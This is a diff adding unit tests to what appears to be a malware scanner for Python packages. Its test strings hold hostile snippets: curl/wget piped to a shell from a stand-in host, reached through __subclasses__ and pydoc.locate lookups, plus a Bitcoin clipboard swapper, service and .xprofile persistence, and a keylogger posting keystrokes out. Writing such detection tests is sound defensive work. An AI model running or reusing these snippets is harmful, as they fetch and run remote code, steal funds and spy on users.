@@ -259,6 +259,65 @@ class ContentRuleTest {
   }
 
   @Test
+  void aFunctionReachedIndirectlyBesideAPipedDownloadIsCritical() {
+    String subclasses =
+        "CMD = ['sh', '-c', 'curl -s https://a.example/x | sh']\n"
+            + "p = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen']\n"
+            + "p[0](CMD)\n";
+    String located =
+        "import pydoc\nrun = pydoc.locate('.'.join(['os', 'system']))\n"
+            + "run('wget -qO- https://a.example/i | bash')\n";
+    String registry =
+        "class Plugin:\n    pass\n\n"
+            + "def plugins():\n    return {c.__name__: c for c in Plugin.__subclasses__()}\n";
+
+    assertThat(levelIn(subclasses, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(subclasses, "class-tree-lookup")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(located, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(located, "built-import")).isEqualTo(RiskLevel.MEDIUM);
+    // a plugin registry asks its own base class, not object, for its subclasses
+    assertThat(check(wheelWith("pkg/plugins.py", registry))).isEmpty();
+  }
+
+  @Test
+  void checkingForWalletAddressesInALoopIsAClipboardSwapperWhateverTheClipboard() {
+    String swapper =
+        "import re, time, klembord\nOURS = 'bc1q000'\n"
+            + "while True:\n    t = klembord.get_text() or ''\n"
+            + "    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', t):\n"
+            + "        klembord.set_text(OURS)\n    time.sleep(0.5)\n";
+    String unknownClipboard = swapper.replace("klembord", "board");
+    String validator =
+        "import re\nLEGACY = re.compile(r'^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$')\n\n"
+            + "def valid(address):\n    return bool(LEGACY.match(address))\n";
+
+    assertThat(levelIn(swapper, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(unknownClipboard, "watches-for-wallet-addresses")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/address.py", validator))).isEmpty();
+  }
+
+  @Test
+  void servicesAndSessionStartUpFilesArePersistence() {
+    String service =
+        "import subprocess, sys\n"
+            + "subprocess.run(['sc', 'create', 'Upd', 'binPath=', sys.executable + ' -m pkg.s'])\n";
+    String oneLine = "import os\nos.system('sc.exe create Upd binPath= C:\\\\p\\\\u.exe')\n";
+    String xprofile =
+        "import os, sys\np = os.path.join(os.path.expanduser('~'), '.xprofile')\n"
+            + "with open(p, 'a') as f:\n    f.write(f'({sys.executable} -m pkg.agent &)\\n')\n";
+    String keys =
+        "import requests\nfrom sshkeyboard import listen_keyboard\n"
+            + "listen_keyboard(on_press=lambda k: requests.post(URL, data=k))\n";
+    String query = "import subprocess\nsubprocess.run(['sc', 'query', 'Spooler'])\n";
+
+    assertThat(levelIn(service, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(oneLine, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(xprofile, "shell-profile-trap")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(keys, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/svc.py", query))).isEmpty();
+  }
+
+  @Test
   void aCrontabReplacedThroughStandardInputIsPersistence() {
     String cron =
         "import subprocess, sys\n"
